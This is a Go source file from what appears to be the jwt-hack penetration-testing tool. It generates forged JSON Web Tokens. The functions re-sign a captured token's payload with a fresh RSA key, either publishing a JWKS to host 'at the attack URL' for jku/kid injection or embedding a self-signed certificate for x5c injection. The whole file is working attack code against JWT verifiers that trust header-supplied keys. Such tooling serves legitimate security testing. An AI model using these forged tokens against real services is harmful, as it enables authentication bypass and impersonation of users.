package payload

import (
	"crypto"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"math/big"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/lestrrat-go/jwx/v3/jwa"
	"github.com/lestrrat-go/jwx/v3/jwk"

	"github.com/hardwaylabs/jwt-hack/pkg/token"
)

// resigned is a token signed with a freshly generated key, together with
// the key material the tester must serve.
type resigned struct {
	Token string
	Kid   string
	JWKS  []byte
}

// resignWithFreshKey generates an RSA key, signs the original payload
// segment under RS256 with the extra header parameters applied, and
// renders the public half as a JWKS document to host at the attack URL.
func resignWithFreshKey(tok *token.Token, extraHeader map[string]any) (*resigned, error) {
	priv, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}

	pubKey, err := jwk.Import(priv.Public())
	if err != nil {
		return nil, err
	}
	thumb, err := pubKey.Thumbprint(crypto.SHA256)
	if err != nil {
		return nil, err
	}
	kid := base64.RawURLEncoding.EncodeToString(thumb)
	if err := pubKey.Set(jwk.KeyIDKey, kid); err != nil {
		return nil, err
	}
	if err := pubKey.Set(jwk.AlgorithmKey, jwa.RS256()); err != nil {
		return nil, err
	}
	if err := pubKey.Set(jwk.KeyUsageKey, "sig"); err != nil {
		return nil, err
	}

	set := jwk.NewSet()
	if err := set.AddKey(pubKey); err != nil {
		return nil, err
	}
	jwks, err := json.Marshal(set)
	if err != nil {
		return nil, err
	}

	header := map[string]any{"alg": "RS256", "typ": "JWT", "kid": kid}
	for k, v := range extraHeader {
		header[k] = v
	}
	tokenString, err := signRS256(header, tok.RawPayload, priv)
	if err != nil {
		return nil, err
	}

	return &resigned{Token: tokenString, Kid: kid, JWKS: jwks}, nil
}

// resignWithSelfSignedCert builds an x5c token: the original payload
// re-signed under RS256 with a fresh key whose self-signed certificate is
// embedded in the header chain.
func resignWithSelfSignedCert(tok *token.Token) (*resigned, error) {
	priv, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}

	template := x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: "jwt-hack"},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().AddDate(1, 0, 0),
		KeyUsage:     x509.KeyUsageDigitalSignature,
	}
	der, err := x509.CreateCertificate(rand.Reader, &template, &template, priv.Public(), priv)
	if err != nil {
		return nil, err
	}

	// x5c entries are standard (not URL-safe) base64 DER per RFC 7515.
	header := map[string]any{
		"alg": "RS256",
		"typ": "JWT",
		"x5c": []string{base64.StdEncoding.EncodeToString(der)},
	}
	tokenString, err := signRS256(header, tok.RawPayload, priv)
	if err != nil {
		return nil, err
	}

	return &resigned{Token: tokenString}, nil
}

func signRS256(header map[string]any, rawPayload string, priv *rsa.PrivateKey) (string, error) {
	headerJSON, err := json.Marshal(header)
	if err != nil {
		return "", err
	}
	signingInput := base64.RawURLEncoding.EncodeToString(headerJSON) + "." + rawPayload
	sig, err := jwt.SigningMethodRS256.Sign(signingInput, priv)
	if err != nil {
		return "", err
	}
	return signingInput + "." + base64.RawURLEncoding.EncodeToString(sig), nil
}
